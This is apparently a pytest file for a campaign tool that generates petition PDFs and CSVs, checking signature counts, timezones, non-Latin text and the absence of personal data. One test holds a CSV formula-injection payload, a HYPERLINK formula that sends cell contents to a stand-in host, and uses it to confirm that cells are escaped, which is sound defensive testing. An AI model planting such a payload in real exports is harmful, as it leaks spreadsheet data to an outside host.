"""The petition document: figures from the signatures table, as a PDF and a CSV, no personal data."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import select
from starlette.testclient import TestClient

from campaign.appeals import petition
from campaign.appeals import registry as appeals
from campaign.inbound.importer import import_signatures
from campaign.runtime import Runtime
from campaign.storage.models import Supporter
from tests.conftest import post_twilio, twilio_form

AMSTERDAM = "Europe/Amsterdam"
# (phone, signed at UTC): 23:30 UTC on the 29th is already the 30th in Amsterdam.
HISTORY = [
    ("+31612345601", "2026-11-29T09:00:00Z"),
    ("+31612345602", "2026-11-29T23:30:00Z"),
    ("+32470123456", "2026-11-30T10:00:00Z"),
    ("+4915112345678", "2026-11-30T11:00:00Z"),
    ("+254712345678", "2026-11-30T12:15:00Z"),
    ("+31612345603", "2026-11-30T13:00:00Z"),
]
PHONES = [phone for phone, _ in HISTORY]


def import_history(runtime: Runtime, tmp_path: Path, slug: str = "hassan") -> None:
    path = tmp_path / "history.csv"
    path.write_text("appeal,phone,signed_at\n" + "".join(f"{slug},{p},{t}\n" for p, t in HISTORY))
    report = import_signatures(runtime.recorder, runtime.vault, path)
    assert report.imported == len(HISTORY) and not report.errors
    runtime.live.apply(report.changes)


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def hashes(runtime: Runtime) -> list[str]:
    with runtime.engine.connect() as connection:
        return [h for h in connection.scalars(select(Supporter.phone_hash)) if h]


@pytest.fixture
def signed(runtime: Runtime, hassan: appeals.AppealSummary, kenya: object, tmp_path: Path) -> None:
    """Six historical signatures for Hassan over two days, and one for Kenya (not counted)."""
    import_history(runtime, tmp_path)
    path = tmp_path / "kenya.csv"
    path.write_text("appeal,phone,signed_at\nkenya,+254712345699,2026-11-30T08:00:00Z\n")
    import_signatures(runtime.recorder, runtime.vault, path)


@pytest.mark.usefixtures("signed")
def test_figures_come_from_the_signatures_and_match_the_live_tally(runtime: Runtime) -> None:
    found = petition.figures(runtime.engine, "hassan", AMSTERDAM)
    assert found.total == 6 == appeals.get_appeal(runtime.engine, "hassan").signatures
    live = runtime.live.figures("hassan")
    assert live is not None and live.signatures == found.total
    assert [(c.code, c.name, c.signatures) for c in found.countries] == [
        ("NL", "Netherlands", 3),
        ("BE", "Belgium", 1),
        ("DE", "Germany", 1),
        ("KE", "Kenya", 1),
    ]
    assert found.days == ((date(2026, 11, 29), 1), (date(2026, 11, 30), 5)), "days in Amsterdam time"
    assert found.first is not None and found.first.isoformat() == "2026-11-29T09:00:00+00:00"
    assert found.last is not None and found.last.isoformat() == "2026-11-30T13:00:00+00:00"
    assert found.period() == "29 November 2026 to 30 November 2026"
    utc = petition.figures(runtime.engine, "hassan", "UTC")
    assert utc.days == ((date(2026, 11, 29), 2), (date(2026, 11, 30), 4)), "the same in UTC"


@pytest.mark.usefixtures("signed")
def test_the_pdf_states_the_figures(runtime: Runtime) -> None:
    appeals.edit_appeal(runtime.engine, "hassan", target_name="Minister of Justice of Tunisia")
    made = petition.make(runtime.engine, "hassan", AMSTERDAM)
    text = pdf_text(made.pdf)
    assert "Petition: Stop the torture of Hassan" in text
    assert "Minister of Justice of Tunisia" in text
    assert "Hassan is at risk of torture in detention" in text
    assert "6 people signed this appeal for Hassan" in text
    assert "29 November 2026 to 30 November 2026" in text
    lines = text.splitlines()
    for row in ("Netherlands 3 50.0%", "Belgium 1 16.7%", "Germany 1 16.7%", "Kenya 1 16.7%", "Total 6 100%"):
        assert row in lines, row
    assert "29 November 2026 1 1" in lines and "30 November 2026 5 6" in lines
    assert made.pdf.startswith(b"%PDF-")
    again = petition.render_pdf(made.figures)
    assert again == made.pdf, "the same figures make the same file, so its SHA-256 proves what was sent"


@pytest.mark.usefixtures("signed")
def test_the_csv_holds_the_same_figures(runtime: Runtime) -> None:
    made = petition.make(runtime.engine, "hassan", AMSTERDAM)
    read = petition.read_csv(made.csv)
    assert read == {
        "slug": "hassan",
        "total": 6,
        "period_start": "2026-11-29T09:00:00+00:00",
        "period_end": "2026-11-30T13:00:00+00:00",
        "countries": {"NL": 3, "BE": 1, "DE": 1, "KE": 1},
        "days": {"2026-11-29": 1, "2026-11-30": 5},
    }
    assert sum(read["countries"].values()) == sum(read["days"].values()) == read["total"]


@pytest.mark.usefixtures("signed")
def test_no_personal_data_in_either_document(runtime: Runtime, client: TestClient) -> None:
    assert post_twilio(client, twilio_form("SMnow", "+31687654321", "JA")).status_code == 200
    made = petition.make(runtime.engine, "hassan", AMSTERDAM)
    assert made.figures.total == 7
    documents = {"pdf text": pdf_text(made.pdf), "pdf": made.pdf.decode("latin-1"), "csv": made.csv.decode()}
    secrets = [*hashes(runtime), *(p.lstrip("+") for p in [*PHONES, "+31687654321"])]
    secrets += [p[-9:] for p in PHONES]  # national numbers without the country code
    assert len(hashes(runtime)) == 8
    for name, content in documents.items():
        for secret in secrets:
            assert secret not in content, f"{secret} in the {name}"


def test_non_latin_names_are_written(runtime: Runtime, tmp_path: Path) -> None:
    appeals.add_appeal(
        runtime.engine,
        slug="ahmed",
        title="Свобода для Ахмеда · حرية لأحمد",
        campaign="torture",
        person="Ахмед Хасанов",
        keywords=["AHMED"],
    )
    import_history(runtime, tmp_path, "ahmed")
    text = pdf_text(petition.make(runtime.engine, "ahmed").pdf)
    assert "Ахмед Хасанов" in text and "Свобода для Ахмеда" in text
    assert "حرية لأحمد" in text, "Arabic is shaped and kept in reading order"


def test_an_appeal_without_signatures(runtime: Runtime, hassan: appeals.AppealSummary) -> None:
    made = petition.make(runtime.engine, "hassan")
    assert made.figures.total == 0 and made.figures.period() == "no signatures yet"
    assert "0 people signed" in pdf_text(made.pdf)
    assert petition.read_csv(made.csv)["total"] == 0


@pytest.mark.usefixtures("signed")
def test_the_period_in_words(runtime: Runtime) -> None:
    found = petition.figures(runtime.engine, "hassan", AMSTERDAM)
    assert found.period_phrase() == "from 29 November 2026 to 30 November 2026"
    one_day = dataclasses.replace(found, first=found.last)
    assert (one_day.period(), one_day.period_phrase()) == ("30 November 2026", "on 30 November 2026")


def test_no_cell_of_the_csv_runs_as_a_formula(runtime: Runtime) -> None:
    """The attack that found it: a title or target name that a spreadsheet would run."""
    payload = '=HYPERLINK("http://x.example/?"&A1,"open")'
    appeals.add_appeal(
        runtime.engine, slug="lina", title=payload, campaign="torture", person="@lina",
        target_authority="-2+3",
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(petition.make(runtime.engine, "lina").csv.decode("utf-8-sig"))))
    cells = {row[0]: row[2] for row in rows[1:]}
    assert cells["appeal"] == "'" + payload
    assert cells["person"] == "'@lina" and cells["target"] == "'-2+3"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
